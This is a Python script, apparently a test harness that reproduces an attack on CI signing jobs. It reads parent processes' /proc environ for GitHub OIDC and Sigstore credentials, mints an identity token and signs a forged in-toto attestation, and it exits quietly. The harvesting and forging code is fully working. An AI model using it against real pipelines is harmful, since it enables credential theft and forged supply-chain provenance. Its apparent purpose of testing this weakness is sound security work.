"""The attack of issue 28: what any build or deploy command of a signing job can do.

It walks its own process ancestors (the PPid chain in /proc up to the runner), reads each one's
/proc/<pid>/environ (a process's environment as it was started: scrubbing a child's environment
does not scrub its parent's), and collects the signing credentials it finds there. With GitHub's
token request pair (or an identity token) it mints a Sigstore identity token (audience sigstore)
and signs a forged in-toto statement as DSSE, as the job's workflow identity.

    TEST_PYTHON harvest.py REPORT [STATEMENT BUNDLE]

or with HARVEST_REPORT, HARVEST_STATEMENT, HARVEST_BUNDLE in the environment; the trust config of
the Sigstore instance comes from TEST_TRUST_CONFIG (argv's fourth argument wins). REPORT gets JSON:
which variables were found in which process (names and pids, never values), and what was
minted and signed. Run it with a Python that has sigstore (the test venv's: TEST_PYTHON). It
always exits 0: an attacker does not fail the build.
"""

from __future__ import annotations

import json
import os
import sys
import traceback
import urllib.parse
import urllib.request
from pathlib import Path
from typing import Any

WANTED = (
    "ACTIONS_ID_TOKEN_REQUEST_URL",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    "SIGSTORE_ID_TOKEN",
    "SIGSTORE_IDENTITY_TOKEN",
    "GITHUB_TOKEN",
)


def status_field(pid: int, field: str) -> str:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        name, _, value = line.partition(":")
        if name == field:
            return value.strip()
    return ""


# The runner: the top of a job's processes (act here, Runner.Worker on GitHub, gitlab-runner on
# GitLab; gitlab-ci-local, a node script, here). What started it is the test harness (or the
# VM's agent), not the job: the walk reads the runner and stops.
RUNNERS = ("act", "Runner.Worker", "gitlab-runner")
RUNNER_SCRIPTS = ("gitlab-ci-local",)


def is_runner(pid: int) -> bool:
    if status_field(pid, "Name") in RUNNERS:
        return True
    argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[:2]  # an interpreter and its script
    return any(Path(arg.decode(errors="replace")).name in RUNNER_SCRIPTS for arg in argv if arg)


def ancestors() -> list[int]:
    """The parent, its parent, ... up to the runner or pid 1 (this process is not one)."""
    chain = []
    pid = os.getppid()
    while pid > 0 and pid not in chain:
        chain.append(pid)
        if pid == 1 or is_runner(pid):
            break
        pid = int(status_field(pid, "PPid") or 0)
    return chain


def environ(pid: int) -> dict[str, str]:
    data = Path(f"/proc/{pid}/environ").read_bytes()
    pairs = (entry.decode(errors="replace").partition("=") for entry in data.split(b"\0") if entry)
    return {name: value for name, _, value in pairs}


def mint(url: str, request_token: str, audience: str = "sigstore") -> str:
    """What `id`/actions/core do with the pair: GET the URL plus audience, bearer request token."""
    joiner = "&" if urllib.parse.urlsplit(url).query else "?"
    request = urllib.request.Request(
        f"{url}{joiner}{urllib.parse.urlencode({'audience': audience})}",
        headers={"Authorization": f"bearer {request_token}"},
    )
    with urllib.request.urlopen(request, timeout=30) as response:
        return str(json.load(response)["value"])


def sign(token: str, statement: Path, bundle: Path, trust_config: Path) -> str:
    """Sign `statement` (an in-toto statement, JSON) as DSSE; returns the certificate's SAN."""
    from sigstore import dsse
    from sigstore.models import ClientTrustConfig
    from sigstore.oidc import IdentityToken
    from sigstore.sign import SigningContext

    trust = ClientTrustConfig.from_json(trust_config.read_text())
    with SigningContext.from_trust_config(trust).signer(IdentityToken(token)) as signer:
        signed = signer.sign_dsse(dsse.Statement(statement.read_bytes()))
    bundle.write_text(signed.to_json())
    from cryptography import x509

    san = signed.signing_certificate.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    names = san.get_values_for_type(x509.UniformResourceIdentifier) + san.get_values_for_type(x509.RFC822Name)
    return str(names[0]) if names else ""


def harvest(report: dict[str, Any], statement: Path | None, bundle: Path | None, trust_config: Path | None) -> None:
    report["own_environment"] = sorted(name for name in WANTED if name in os.environ)
    values: dict[str, str] = {}
    for pid in ancestors():
        seen: dict[str, Any] = {"pid": pid, "name": ""}
        try:
            seen["name"] = status_field(pid, "Name")
            # what runs there: the program and its first arguments, file names only
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[:3]
            seen["command"] = [Path(arg.decode(errors="replace")).name for arg in argv if arg]
            found = environ(pid)
        except OSError as exc:
            seen["error"] = f"{type(exc).__name__}: {exc.strerror}"
            report["ancestors"].append(seen)
            continue
        seen["found"] = sorted(name for name in WANTED if found.get(name))
        report["ancestors"].append(seen)
        for name in seen["found"]:
            values.setdefault(name, found[name])
            report["found"].setdefault(name, []).append(pid)
    token = None
    if values.get("ACTIONS_ID_TOKEN_REQUEST_URL") and values.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN"):
        token = mint(values["ACTIONS_ID_TOKEN_REQUEST_URL"], values["ACTIONS_ID_TOKEN_REQUEST_TOKEN"])
        report["minted_from"] = "ACTIONS_ID_TOKEN_REQUEST_URL"
    else:
        for name in ("SIGSTORE_IDENTITY_TOKEN", "SIGSTORE_ID_TOKEN"):
            if values.get(name):
                token, report["minted_from"] = values[name], name
                break
    if token is None or statement is None or bundle is None or trust_config is None:
        return
    report["signed_as"] = sign(token, statement, bundle, trust_config)
    report["bundle"] = str(bundle)


def main(argv: list[str]) -> None:
    args = [*argv, "", "", "", ""]

    def option(index: int, variable: str) -> Path | None:
        value = args[index] or os.environ.get(variable, "")
        return Path(value) if value else None

    out = option(0, "HARVEST_REPORT")
    report: dict[str, Any] = {"pid": os.getpid(), "ancestors": [], "found": {}, "minted_from": None}
    try:
        harvest(report, option(1, "HARVEST_STATEMENT"), option(2, "HARVEST_BUNDLE"), option(3, "TEST_TRUST_CONFIG"))
    except Exception:
        report["error"] = traceback.format_exc(limit=3)
    if out is not None:
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_text(json.dumps(report, indent=2))


if __name__ == "__main__":
    try:
        main(sys.argv[1:])
    finally:
        sys.exit(0)
